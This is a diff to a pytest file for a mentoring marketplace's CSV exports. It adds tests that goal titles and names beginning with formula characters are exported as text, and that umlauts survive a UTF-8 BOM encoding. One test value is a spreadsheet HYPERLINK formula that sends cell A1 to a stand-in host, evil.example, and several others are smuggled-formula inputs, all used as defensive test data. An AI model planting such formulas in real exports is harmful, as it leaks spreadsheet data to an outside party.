@@ -11,7 +11,7 @@ import pytest
 
 from marketplace.extensions import db
 from marketplace.models import Tandem
-from marketplace.services import meetings, reports
+from marketplace.services import exports, meetings, reports
 from tests.builders import make_goal, make_mentor, make_user
 from tests.marketplace.test_cohorts import bearer, enrol, make_cohort
 
@@ -77,7 +77,7 @@ def test_csv_exports(running, client, login_as):
     login_as(make_user(is_manager=True))
     figures = client.get(f"/cohorts/{cohort.id}/report.csv")
     assert figures.mimetype == "text/csv" and "attachment" in figures.headers["Content-Disposition"]
-    rows = list(csv.reader(io.StringIO(figures.get_data(as_text=True))))
+    rows = list(csv.reader(io.StringIO(figures.data.decode("utf-8-sig"))))
     assert rows[0] == ["section", "metric", "value"]
     values = {(section, metric): value for section, metric, value in rows[1:]}
     assert values[("matching", "average_score")] == "0.7"
@@ -85,11 +85,41 @@ def test_csv_exports(running, client, login_as):
     assert values[("meetings", "held")] == "2" and values[("meetings", "target")] == "8"
     assert values[("participants", "mentees")] == "3"
 
-    per_tandem = list(csv.DictReader(io.StringIO(client.get(f"/cohorts/{cohort.id}/tandems.csv").get_data(
-        as_text=True))))
+    per_tandem = list(csv.DictReader(io.StringIO(client.get(f"/cohorts/{cohort.id}/tandems.csv").data.decode(
+        "utf-8-sig"))))
     assert [(r["tandem_id"], r["meetings_held"], r["behind"]) for r in per_tandem] == [
         (str(tandems[0].id), "2", "no"), (str(tandems[1].id), "0", "yes")]
     assert per_tandem[0]["score"] == "0.6000"
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def test_csv_exports_are_text_for_spreadsheets_and_keep_umlauts(running, client, login_as):
+    """A goal title that is a formula arrives as text (leading '), the file opens in Excel with umlauts."""
+    cohort, tandems = running
+    tandems[0].goal.title = HOSTILE_TITLE
+    tandems[0].mentor_user.name = "Jörg Müßig"
+    tandems[1].goal.title = "@SUM(1+1)"
+    tandems[1].mentee.name = "-2+3"
+    db.session.commit()
+    login_as(make_user(is_manager=True))
+    for path in (f"/cohorts/{cohort.id}/tandems.csv", f"/cohorts/{cohort.id}/report.csv"):
+        assert client.get(path).data.startswith(b"\xef\xbb\xbf"), path
+    per_tandem = list(csv.DictReader(io.StringIO(client.get(f"/cohorts/{cohort.id}/tandems.csv").data.decode(
+        "utf-8-sig"))))
+    assert [row["goal"] for row in per_tandem] == ["'" + HOSTILE_TITLE, "'@SUM(1+1)"]
+    assert per_tandem[0]["mentor"] == "Jörg Müßig"
+    assert per_tandem[1]["mentee"] == "'-2+3"
+    assert per_tandem[0]["meetings_held"] == "2"  # numbers stay numbers
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Grüße", "Grüße"), ("a=b", "a=b"), ("", ""), (None, ""), (-0.25, -0.25), (-3, -3), (True, "True"),
+])
+def test_safe_cell(value, cell):
+    assert exports.safe_cell(value) == cell
 
 
 def test_report_page_shows_charts_as_images_with_tables_and_no_script(running, client, login_as):
